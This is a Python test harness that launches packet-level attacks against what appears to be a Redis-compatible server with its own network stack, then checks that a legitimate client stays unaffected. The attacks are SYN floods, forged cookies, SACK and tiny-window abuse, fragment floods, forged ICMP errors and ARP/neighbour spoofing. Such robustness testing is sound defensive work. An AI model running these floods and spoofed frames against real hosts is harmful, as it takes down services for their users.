#!/usr/bin/python3
"""Attacks on the target, each with a client beside it that must notice nothing. Prints one JSON object.

    attacks.py INTERFACE TARGET TARGET_MAC ATTACK [AMOUNT ...]

The client is the kernel's stack of this namespace; the attacker writes frames with addresses that no kernel owns.
"""
import json
import multiprocessing
import random
import socket
import struct
import sys
import threading
import time

from scapy.all import (ICMP, IP, TCP, Ether, ICMPv6DestUnreach, ICMPv6ND_Redirect, ICMPv6PacketTooBig,
                       ICMPv6ParamProblem, ICMPv6TimeExceeded, IPv6, Raw, fragment)

from wire import Wire

PING, PONG = b"PING\r\n", b"+PONG\r\n"


def info(wire, section="net"):
    with socket.create_connection((wire.target, 6379), timeout=10) as client:
        client.sendall(b"INFO %s\r\n" % section.encode())
        text = b""
        while b"\r\n" not in text or len(text) < int(text[1:text.index(b"\r\n")]) + text.index(b"\r\n") + 4:
            text += client.recv(65536)
    lines = (line.split(":") for line in text.decode().split("\r\n") if ":" in line)
    return {name: float(value) if "." in value else int(value) for name, value in lines
            if value.replace(".", "", 1).isdigit()}


def processor_seconds(wire):
    used = info(wire, "cpu")
    return used["used_cpu_sys"] + used["used_cpu_user"]


def connect_once(wire, source=""):
    """Seconds until a new connection has its answer."""
    began = time.monotonic()
    with socket.create_connection((wire.target, 6379), timeout=10, source_address=(source, 0)) as client:
        client.settimeout(10)
        client.sendall(PING)
        assert client.recv(100) == PONG
    return time.monotonic() - began


def link_drops(interface):
    """What the kernel could not put on the link: lost before the target could see it."""
    with open("/sys/class/net/%s/statistics/tx_dropped" % interface) as file:
        return int(file.read())


class Client:
    """Opens connections, one every 10 ms, in a process of its own until it is stopped."""

    def __init__(self, wire, source=""):
        self.wire, self.source, self.drops = wire, source, link_drops(wire.interface)
        self.stopping, self.times, self.failures = (multiprocessing.Event(), multiprocessing.Queue(),
                                                    multiprocessing.Value("i"))
        self.process = multiprocessing.Process(target=self.run, daemon=True)
        self.process.start()

    def run(self):
        while not self.stopping.is_set():
            try:
                self.times.put(connect_once(self.wire, self.source))
            except OSError:
                self.failures.value += 1
            time.sleep(0.01)
        self.times.put(None)

    def stop(self):
        self.stopping.set()
        times = list(iter(lambda: self.times.get(timeout=30), None))
        self.process.join(30)
        failures = self.failures.value
        return {"connections": len(times) + failures, "over_1s": sum(t > 1 for t in times) + failures,
                "slowest_ms": round(1000 * max(times, default=0)),
                "link_drops": link_drops(self.wire.interface) - self.drops}


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def packed_mac(mac):
    return bytes.fromhex(mac.replace(":", ""))


def raw_packet(wire, source, protocol, body, identification=0, fragment=0x4000):
    """The same as scapy's, thirty times faster. `fragment`: flags and offset as in the header."""
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), identification, fragment, 64, protocol, 0)
    ip += source + socket.inet_aton(wire.target)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return packed_mac(wire.target_mac) + packed_mac(wire.mac) + b"\x08\x00" + ip + body


def raw_segment(wire, source, source_port, flags, seq, ack=0, data=b"", options=b"", window=65535):
    size = 20 + len(options)
    tcp = struct.pack("!HHIIBBHHH", source_port, 6379, seq, ack, size << 2, flags, window, 0, 0) + options + data
    pseudo = source + socket.inet_aton(wire.target) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return raw_packet(wire, source, 6, tcp)


def send_at_rate(wire, frames, rate, seconds):
    """In portions of 5 ms; returns how many left."""
    sent, began = 0, time.monotonic()
    while (now := time.monotonic() - began) < seconds:
        due = int(rate * min(now + 0.005, seconds))
        while sent < due:
            wire.socket.send(frames[sent % len(frames)])
            sent += 1
        time.sleep(0.002)
    return sent


SYN_OPTIONS = bytes([2, 4, 5, 0xB4, 4, 2, 8, 10]) + bytes(8) + bytes([1, 3, 3, 7])


def random_source(rng):
    return bytes([198, 18, 0, 100 + rng.randrange(150)])


def flooded(wire, frames, seconds):
    """60,000 a second for so long, and until the client has opened some connections. `us_per_frame`: CPU time of the
    target for each that reached it, its answer and the client's connections included."""
    before, used, client, sent, began = info(wire), processor_seconds(wire), Client(wire), 0, time.monotonic()
    while sent == 0 or client.times.qsize() < 20 and time.monotonic() - began < 20 + seconds:
        sent += send_at_rate(wire, frames, 60000, seconds)
    rate, used = round(sent / (time.monotonic() - began)), processor_seconds(wire) - used
    result = client.stop()
    after = info(wire)
    result.update(rate=rate, sent=sent, half_open=after["tcp_half_open"],
                  cookies=after["tcp_cookies_sent"] - before["tcp_cookies_sent"],
                  us_per_frame=round(1e6 * used / max(1, sent - result["link_drops"]), 2))
    return result


def syn_flood(wire, seconds):
    rng = random.Random(1)
    frames = [raw_segment(wire, random_source(rng), rng.randrange(1024, 65536), 2, rng.randrange(1 << 32),
                          options=SYN_OPTIONS) for _ in range(20000)]
    return flooded(wire, frames, float(seconds))


def distinct_syns(wire, count):
    """No two from the same address and port."""
    rng, count = random.Random(7), int(count)
    frames = [raw_segment(wire, bytes([198, 18, 0, 100 + i % 150]), 1024 + i // 150, 2, rng.randrange(1 << 32),
                          options=SYN_OPTIONS) for i in range(count)]
    return flooded(wire, frames, count / 60000)


def forged_cookies(wire, count):
    """While cookies are in use (the target runs with tcp-max-syn-backlog 0)."""
    rng = random.Random(2)
    connect_once(wire)
    before, drops = info(wire), link_drops(wire.interface)
    for _ in range(int(count)):
        wire.socket.send(raw_segment(wire, random_source(rng), rng.randrange(1024, 65536), 0x10, rng.randrange(1 << 32),
                                     rng.randrange(1 << 32)))
    time.sleep(0.3)
    after = info(wire)
    return {"link_drops": link_drops(wire.interface) - drops,
            "refused": after["net_drop_tcp_cookie"] - before["net_drop_tcp_cookie"],
            "accepted": after["tcp_cookies_accepted"] - before["tcp_cookies_accepted"], "own": 2}


class Collector:
    """A peer that keeps what it hears in pieces and reports them by SACK as it likes."""

    def __init__(self, wire, mss, size):
        self.wire, self.size = wire, size
        self.peer = wire.peer(options=(("MSS", mss), ("SAckOK", b"")), window=65535)
        self.peer.open()
        self.base, self.source = self.peer.ack, socket.inet_aton(wire.own)
        self.got, self.present, self.whole, self.reach = bytearray(size), bytearray(size), 0, 0

    def send_ack(self, options=b""):
        self.wire.socket.send(raw_segment(self.wire, self.source, self.peer.own_port, 0x10, self.peer.seq,
                                          (self.base + self.whole) % 2**32, options=options))

    def hear(self):
        while not self.peer.heard_all.empty():
            segment = self.peer.heard_all.get()
            at, data = (segment.seq - self.base) % 2**32, segment.data
            if at + len(data) <= self.size:
                self.got[at:at + len(data)] = data
                self.present[at:at + len(data)] = b"\1" * len(data)
                self.reach = max(self.reach, at + len(data))

    def split(self, rng):
        """Nothing is acknowledged but three lone bytes."""
        known = [at for at in (rng.randrange(self.whole, self.reach) for _ in range(3) if self.reach > self.whole)
                 if at > self.whole and self.present[at]]
        edges = [edge % 2**32 for at in known for edge in (self.base + at, self.base + at + 1)]
        self.send_ack(struct.pack("!BBBB%dI" % len(edges), 1, 1, 5, 2 + 4 * len(edges), *edges) if edges else b"")

    def acknowledge(self):
        """All that came in order; whether that is the whole reply."""
        hole = self.present.find(0, self.whole)
        self.whole = self.size if hole < 0 else hole
        self.send_ack()
        return self.whole == self.size


def sack_abuse(wire, seconds, count):
    """Peers with an MSS of next to nothing ask for a large value, take a third of it as they should, and cut what is
    under way then into pieces: 50 times a second each; on a busy host for longer, until each has done it half as often."""
    rng, value = random.Random(5), bytes(random.Random(6).choices(b"abcdefgh", k=120000))
    with socket.create_connection((wire.target, 6379), timeout=10) as client:
        client.sendall(b"*3\r\n$3\r\nSET\r\n$3\r\nbig\r\n$%d\r\n%s\r\n" % (len(value), value))
        assert client.recv(100) == b"+OK\r\n"
    reply = b"$%d\r\n%s\r\n" % (len(value), value)
    peers = [Collector(wire, 1 + i % 100, len(reply)) for i in range(int(count))]

    def let_all(act, least, limit):
        """Acts with every peer that has not got so much, until all have."""
        waiting, end = list(peers), time.monotonic() + limit
        while waiting and time.monotonic() < end:
            for each in waiting:
                each.hear()
                act(each)
            waiting = [each for each in waiting if each.whole < least]
            time.sleep(0.005)
        return len(peers) - len(waiting)
    for each in peers:
        each.peer.say(b"GET big\r\n")
    assert let_all(Collector.acknowledge, len(reply) // 3, 60) == len(peers)
    before, client, sent, began = info(wire), Client(wire), 0, time.monotonic()
    used, end, enough = processor_seconds(wire), began + float(seconds), 25 * float(seconds) * len(peers)
    while (now := time.monotonic()) < end or sent < enough and now < end + 60:
        for each in peers:
            each.hear()
            each.split(rng)
        sent += len(peers)
        time.sleep(max(0, now + 0.02 - time.monotonic()))
    used, took = processor_seconds(wire) - used, time.monotonic() - began
    result, after = client.stop(), info(wire)
    let_all(Collector.acknowledge, len(reply), 60)
    result.update(peers=len(peers), whole=sum(each.got == reply for each in peers if each.whole == each.size),
                  sent=sent, rate=round(sent / took), busy=round(used / took, 3), us_per_ack=round(1e6 * used / sent, 1))
    for name in ("tcp_sack_no_room", "tcp_retransmits", "tcp_timeouts"):
        result[name] = after[name] - before[name]
    return result


def held_buffers(wire, count):
    """Peers that send every second byte of their requests, one a segment, some of them as far as the window goes; half
    as many that ask and never acknowledge, or never open their window. Afterwards the first kind behaves."""
    with socket.create_connection((wire.target, 6379), timeout=10) as client:
        client.sendall(b"*3\r\n$3\r\nSET\r\n$3\r\nbig\r\n$12000\r\n%s\r\n" % (b"x" * 12000))
        assert client.recv(100) == b"+OK\r\n"
    count, text, window = int(count), PING * 60, 65535
    holes, askers, before = [wire.peer() for _ in range(count)], [wire.peer() for _ in range(count // 2)], info(wire)
    client, source, sent = Client(wire), socket.inet_aton("198.18.0.77"), 0
    for peer in holes + askers:
        peer.open()
    for i, peer in enumerate(askers):
        peer.say(b"GET big\r\n", window=0 if i % 2 == 0 else window)
    for at in range(1, window, 2):
        for peer in holes if at < len(text) else holes[-max(1, count // 500):]:
            wire.socket.send(raw_segment(wire, source, peer.own_port, 0x10, (peer.seq + at) % 2**32, peer.ack,
                                         text[at % len(text):][:1]))
            sent += 1
    result, after = client.stop(), info(wire)
    result["answered"] = sum(peer.ask(text, PONG * 60) == PONG * 60 for peer in holes[:20])
    result.update(sent=sent, asked=len(holes[:20]), pool_size=after["net_packet_pool_size"],
                  pool_free_min=after["net_packet_pool_free_min"])
    for name in ("tcp_out_of_order", "net_drop_tcp_reassembly_limit", "net_drop_no_buffer"):
        result[name] = after[name] - before[name]
    return result


class Sipper:
    """A peer with a window of next to nothing, who acknowledges what comes."""

    def __init__(self, wire, window):
        self.wire, self.source, self.peer = wire, socket.inet_aton(wire.own), wire.peer(window=window)
        self.peer.open()
        self.text, self.beyond = bytearray(), 0

    def send(self, flags=0x10, data=b""):
        peer = self.peer
        self.wire.socket.send(raw_segment(self.wire, self.source, peer.own_port, flags, peer.seq, peer.ack, data,
                                          window=peer.window))
        peer.seq = (peer.seq + len(data)) % 2**32

    def sip(self):
        """A byte beyond the window is a probe."""
        right = self.peer.ack + self.peer.window
        while not self.peer.heard_all.empty():
            segment = self.peer.heard_all.get()
            past = (segment.seq + len(segment.data) - right + 2**31) % 2**32 - 2**31
            if past <= 0:
                self.text += self.peer.take([segment])
            else:
                self.beyond += past > 1
        self.send()


def small_windows(wire, count, size, seconds):
    """Peers ask for a large value with windows of 0 to 100 bytes; on a busy host for longer, until all whose window is
    open have had something. Then two open theirs and take all of it."""
    value = random.Random(8).randbytes(int(size))
    reply = b"$%d\r\n%s\r\n" % (len(value), value)
    with socket.create_connection((wire.target, 6379), timeout=10) as client:
        client.sendall(b"*3\r\n$3\r\nSET\r\n$3\r\nbig\r\n" + reply)
        assert client.recv(100) == b"+OK\r\n"
    peers = [Sipper(wire, i % 101) for i in range(int(count))]
    client, before = Client(wire), info(wire, "everything")
    for each in peers:
        each.send(0x18, b"GET big\r\n")
    end, rounds = time.monotonic() + float(seconds), 0
    while (now := time.monotonic()) < end or now < end + 60 and any(not each.text for each in peers if each.peer.window > 0):
        for each in peers:
            each.sip()
        rounds += 1
        time.sleep(0.05)
    result, after = client.stop(), info(wire, "everything")
    result.update(peers=len(peers), rounds=rounds, beyond=sum(each.beyond for each in peers),
                  wrong=sum(not reply.startswith(each.text) for each in peers),
                  open=sum(each.peer.window > 0 for each in peers), served=sum(len(each.text) > 0 for each in peers),
                  client_memory=after["client_memory_bytes"], evicted=after["evicted_clients"] - before["evicted_clients"],
                  whole=0)
    for each in peers[0], peers[-1]:
        each.peer.window, end = 65535, time.monotonic() + 60
        while len(each.text) < len(reply) and time.monotonic() < end:
            each.sip()
            time.sleep(0.001)
        result["whole"] += each.text == reply
    return result


def random_numbers(wire, count):
    """RST, SYN, ACK and text with any sequence number but the exact one, on a connection that goes on."""
    rng = random.Random(3)
    peer = wire.peer()
    peer.open()
    assert peer.fate() == "lives"
    before, began = info(wire), time.monotonic()
    source = socket.inet_aton("198.18.0.77")
    for i in range(int(count)):
        flags, data = ((0x04, b""), (0x02, b""), (0x10, b""), (0x18, b"QUIT\r\n"))[i % 4]
        near = rng.randrange(-70000, 70000) or 1
        seq = (peer.seq + near if i % 8 < 4 and flags != 0x18 else rng.randrange(1 << 32)) % 2**32
        ack = rng.randrange(1 << 32) if flags == 0x18 else (peer.ack + rng.randrange(-70000, 70000)) % 2**32
        wire.socket.send(raw_segment(wire, source, peer.own_port, flags, seq, ack, data))
    seconds = time.monotonic() - began
    time.sleep(0.3)
    peer.hear(0.1)
    fate, after = peer.fate(), info(wire)
    return {"fate": fate, "challenges": after["tcp_challenge_acks"] - before["tcp_challenge_acks"],
            "suppressed": after["tcp_challenges_suppressed"] - before["tcp_challenges_suppressed"],
            "challenges_allowed": 10 * (int(seconds) + 2)}


def abandon(wire, count):
    """Connections with an answered command of peers that are never heard of again. They begin together: a peer is a
    port of an address that no kernel owns."""
    peers, source = [wire.peer() for _ in range(count)], socket.inet_aton(wire.own)
    for peer in peers:
        wire.socket.send(raw_segment(wire, source, peer.own_port, 2, peer.seq))
    for peer in peers:
        answer = peer.hear_until(len, 5)[0]
        assert answer.flags == 0x12
        wire.socket.send(raw_segment(wire, source, peer.own_port, 0x18, (peer.seq + 1) % 2**32,
                                     (answer.seq + 1) % 2**32, PING))
    for peer in peers:
        reply = peer.hear_until(lambda all_of: any(s.data for s in all_of), 5)[-1]
        assert reply.data == PONG
        wire.socket.send(raw_segment(wire, source, peer.own_port, 0x10, reply.ack, (reply.seq + len(PONG)) % 2**32))
        del wire.ports[peer.own_port]


def close_in_turn(target, count):
    """Each connection ends in another way: who closes first, and how. Returns how many took more than a second."""
    late = 0
    for i in range(count):
        began, way = time.monotonic(), i % 4
        with socket.create_connection((target, 6379), timeout=10) as client:
            client.sendall(b"QUIT\r\n" if way == 3 else PING)
            if way == 0:
                client.shutdown(socket.SHUT_WR)
            elif way == 2:
                client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            if way != 2:
                assert client.recv(100) == (b"+OK\r\n" if way == 3 else PONG)
            if way in (0, 3):
                assert client.recv(100) == b""
        late += time.monotonic() - began > 1
    return late


def what_is_left(wire):
    net, clients = info(wire), info(wire, "clients")
    names = ("tcp_connections", "tcp_half_open", "tcp_orphans", "tcp_time_wait", "net_drop_tcp_connection_limit")
    return {"connected_clients": clients["connected_clients"]} | {name: net[name] for name in names}


def churn(wire, count, ends):
    """Connections that end in every way, 16 of a thousand by silence; then until those are gone. After QUIT the TIME-WAIT
    is the target's, and the kernel may take the same port again; with `ends` until the last of them is over."""
    count, portion, most, late, began = int(count), 10000, 0, 0, time.monotonic()
    with multiprocessing.Pool(2) as pool:
        for at in range(0, count, portion):
            size = min(portion, count - at)
            abandon(wire, size * 16 // 1000)
            late += sum(pool.starmap(close_in_turn, [(wire.target, size // 2)] * 2))
            most = max(most, what_is_left(wire)["tcp_time_wait"])
    took, began = time.monotonic() - began, time.monotonic()
    # The one that asks is a connection; the one before it may still be closing.
    while ((left := what_is_left(wire))["tcp_connections"] > 1 or left["connected_clients"] > 1 or
           ends == "ends" and left["tcp_time_wait"] > 0):
        if time.monotonic() - began > 100:
            break
        time.sleep(0.2)
    left.update(rate=round(count / took), time_wait_most=most, late=late, quiet_after_s=round(time.monotonic() - began))
    return left


def ping_once(wire, size, source=""):
    """Whether the kernel's echo request, cut into fragments by it where it is long, is answered within a second."""
    body = random.randbytes(size)
    family, protocol, request, before = ((socket.AF_INET6, socket.IPPROTO_ICMPV6, 128, 8) if wire.ipv6 else
                                         (socket.AF_INET, socket.IPPROTO_ICMP, 8, 28))
    with socket.socket(family, socket.SOCK_RAW, protocol) as raw:
        raw.settimeout(1)
        raw.bind((source, 0))
        # Of ICMPv6 the kernel makes the checksum.
        header = struct.pack("!BBHHH", request, 0, checksum(struct.pack("!BBHHH", request, 0, 0, 7, 1) + body), 7, 1)
        raw.sendto(header + body, (wire.target, 0))
        try:
            while raw.recv(65535)[before:] != body:
                pass
        except TimeoutError:
            return False
    return True


class Pinger:
    """Pings the target every 50 ms in a thread of its own."""

    def __init__(self, wire, size, source=""):
        self.stopping, self.answers, self.how = threading.Event(), [], (wire, size, source)
        self.thread = threading.Thread(target=self.run)
        self.thread.start()

    def run(self):
        while not self.stopping.is_set():
            self.answers.append(ping_once(*self.how))
            time.sleep(0.05)

    def stop(self):
        self.stopping.set()
        self.thread.join()
        return {"pings": len(self.answers), "pings_lost": self.answers.count(False)}


def raw_fragment(wire, rng, kind, number):
    """0: the first of a datagram that never ends, of one source; 1: another part of one, of a thousand sources;
    2: beyond 65535 bytes; 3: too small for its header."""
    source = bytes([198, 18, 1, 1] if kind == 0 else [198, 18, 4 + number % 4, 1 + number // 4 % 250])
    offset = (0, rng.randrange(1, 100), 8189, 0)[kind]
    payload = bytes(8 if kind == 3 else rng.randrange(1, 60) * 8)
    return raw_packet(wire, source, 6 if kind == 3 else 17, payload, rng.randrange(65536),
                      offset | (0 if kind == 2 else 0x2000))


def fragments(wire, count):
    """So many datagrams that are never completed, each another; now and then 16 in a row of one source. Between them
    some that are too long, and tiny ones. Meanwhile pings of several fragments are answered."""
    rng, sent = random.Random(4), 0
    before, client, pinger = info(wire), Client(wire), Pinger(wire, 4000)
    began = time.monotonic()
    for i in range(int(count)):
        kinds = ((0,) if i % 64 < 16 else (1,)) + ((2, 3) if i % 8 == 0 else ())
        for kind in kinds:
            wire.socket.send(raw_fragment(wire, rng, kind, i))
        sent += len(kinds)
        if i % 20 == 0:
            time.sleep(0.001)
    took = time.monotonic() - began
    time.sleep(max(0, 1 - took))
    pings, after, result = pinger.stop(), info(wire), client.stop()
    grown = {name: after[name] - before[name] for name in after if "fragment" in name and name in before}
    result.update(pings, counted=grown, sent=sent, rate=round(sent / took))
    return result


def overlap(wire):
    """Two fragments contradict each other: no answer. The same datagram in good ones: answered."""
    packet = Ether(src=wire.mac, dst=wire.target_mac) / IP(src="198.18.0.77", dst=wire.target, id=77) / ICMP() / Raw(b"x" * 64)
    good = [bytes(f) for f in fragment(packet[IP], 32)]
    before = info(wire)
    for number, order in ((1, (0, 1, 1, 2)), (2, (0, 1, 2))):
        for step, index in enumerate(order):
            frame = IP(good[index])
            frame.id = number
            if number == 1 and step == 2:
                frame[Raw].load = b"y" * len(frame[Raw].load)
            del frame.chksum
            wire.socket.send(bytes(Ether(src=wire.mac, dst=wire.target_mac) / frame))
    time.sleep(0.3)
    after = info(wire)
    return {name: after[name] - before[name] for name in
            ("net_icmp_echo_replies", "net_datagrams_reassembled", "net_drop_fragment_overlap")}


def icmp_kinds(wire, quoted, mtu):
    """Errors about a packet, what would change a route among them: unreachable (which no TCP obeys), too big, in
    transit, redirect, and what has no meaning any more."""
    if not wire.ipv6:
        heads = (ICMP(type=3, code=3), ICMP(type=3, code=4, nexthopmtu=mtu), ICMP(type=11), ICMP(type=12),
                 ICMP(type=5, code=1, gw="198.18.0.99"), ICMP(type=4))
        return [wire.frame(head / quoted) for head in heads]
    heads = (ICMPv6DestUnreach(code=4), ICMPv6PacketTooBig(mtu=mtu), ICMPv6TimeExceeded(), ICMPv6ParamProblem(),
             ICMPv6ND_Redirect(tgt="fe80::99", dst=wire.own))
    return [wire.frame(head / quoted) for head in heads]


def quote(wire, peer, seq):
    """The packet of the target's that an error is about."""
    ip = IPv6(src=wire.target, dst=wire.own) if wire.ipv6 else IP(src=wire.target, dst=wire.own)
    return ip / TCP(sport=6379, dport=peer.own_port, seq=seq % 2**32, flags="A")


def largest_segment(peer):
    """Of a long reply, acknowledged as it comes."""
    request, reply = b"ECHO " + b"e" * 1400 + b"\r\n", b"$1400\r\n" + b"e" * 1400 + b"\r\n"
    text, largest, end = b"", 0, time.monotonic() + 5
    peer.say(request)
    while len(text) < len(reply) and time.monotonic() < end:
        heard = peer.hear_until(len, 1)
        largest = max([largest, *(len(s.data) for s in heard)])
        text += peer.take(heard)
        peer.send("A")
    assert text == reply
    return largest


def icmp_errors(wire, count):
    """About a live connection: of what is not in flight, which nobody should obey; then of what is."""
    rng, peer = random.Random(5), wire.peer()
    peer.open()
    assert peer.fate() == "lives"
    before, sent = info(wire), 0
    while sent < int(count):
        frames = icmp_kinds(wire, quote(wire, peer, rng.randrange(1 << 32)), rng.choice((0, 68, 552, 1280)))
        sent += len(frames)
        for frame in frames:
            wire.socket.send(frame)
    time.sleep(0.3)
    after, result = info(wire), {"sent": sent, "kinds": len(frames), "largest": largest_segment(peer)}
    for name in ("icmp_stale", "icmp_type", "icmp_quote", "nd_router", "nd_sender", "nd_malformed"):
        result[name] = after["net_drop_" + name] - before["net_drop_" + name]
    for mtu in (1300, 68):
        peer.say(PING)  # its answer stays unacknowledged, so it is in flight
        heard = peer.hear_until(len, 5)
        for frame in icmp_kinds(wire, quote(wire, peer, peer.ack), mtu):
            wire.socket.send(frame)
        peer.take(heard + peer.hear(0.3))
        peer.send("A")
        result["largest_of_%d" % mtu] = largest_segment(peer)
    result["fate"] = peer.fate()
    return result


def neighbour_solicitation(wire, mac, source):
    """Who has the target's address? Say it to `mac`."""
    return raw_neighbour(wire, mac, source, wire.packed(wire.target), packed_mac(wire.target_mac),
                         b"\x87\0\0\0\0\0\0\0" + wire.packed(wire.target) + b"\1\1" + mac)


def neighbour_advertisement(wire, mac, source, solicited):
    """`source` is at `mac`: to the target, as if it had asked, or to everybody. It may override what is known."""
    to = ((wire.packed(wire.target), packed_mac(wire.target_mac)) if solicited else
          (wire.packed("ff02::1"), packed_mac("33:33:00:00:00:01")))
    return raw_neighbour(wire, mac, source, *to,
                         struct.pack("!BBHI", 0x88, 0, 0, 0x60000000 if solicited else 0x20000000) + source + b"\2\1" + mac)


def raw_neighbour(wire, mac, source, destination, station, message):
    pseudo = source + destination + struct.pack("!II", len(message), 58)
    message = message[:2] + struct.pack("!H", checksum(pseudo + message)) + message[4:]
    return station + mac + struct.pack("!HIHBB", 0x86DD, 6 << 28, len(message), 58, 255) + source + destination + message


def forged_neighbour(wire, rng, i):
    """A request, an answer or a claim of a station that is not there: every tenth of the target's own address, every
    tenth of the gateway's."""
    mac, kind, who = b"\2" + rng.randbytes(5), i % 4, i // 4 % 10
    if wire.ipv6:
        source = wire.packed(wire.target if who == 0 else "fd00::1" if who == 1 else
                             "fd00::%x:%x" % (rng.randrange(1, 65536), rng.randrange(65536)))
        return (neighbour_solicitation(wire, mac, source) if kind < 2 else
                neighbour_advertisement(wire, mac, source, kind == 2))
    own, source = wire.packed(wire.target), bytes([198, 18, 0, 2 if who == 0 else 1 if who == 1 else rng.randrange(3, 255)])
    target = own if kind < 2 else source if kind == 2 else bytes([198, 18, 0, rng.randrange(1, 255)])
    return b"\xff" * 6 + mac + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, 1 + i % 2) + mac + source + bytes(6) + target


def neighbour_flood(wire, count, routed):
    """Beside it a client and a pinger whose answers go by the gateway, for `routed`, their address, is not of the link."""
    rng, before, client, pinger = random.Random(6), info(wire), Client(wire, routed), Pinger(wire, 100, routed)
    began = time.monotonic()
    for i in range(int(count)):
        wire.socket.send(forged_neighbour(wire, rng, i))
        if i % 20 == 0:
            time.sleep(0.001)
    took = time.monotonic() - began
    pings, result, after = pinger.stop(), client.stop(), info(wire)
    names = [name % ("nd" if wire.ipv6 else "arp") for name in ("net_%s_conflicts", "net_drop_%s_unsolicited")]
    conflicts, unsolicited = (after[name] - before[name] for name in names)
    result.update(pings, conflicts=conflicts, unsolicited=unsolicited, sent=int(count), rate=round(int(count) / took))
    return result


def main():
    wire = Wire(*sys.argv[1:4])
    connect_once(wire)
    json.dump(globals()[sys.argv[4]](wire, *sys.argv[5:]), sys.stdout)


if __name__ == "__main__":
    main()
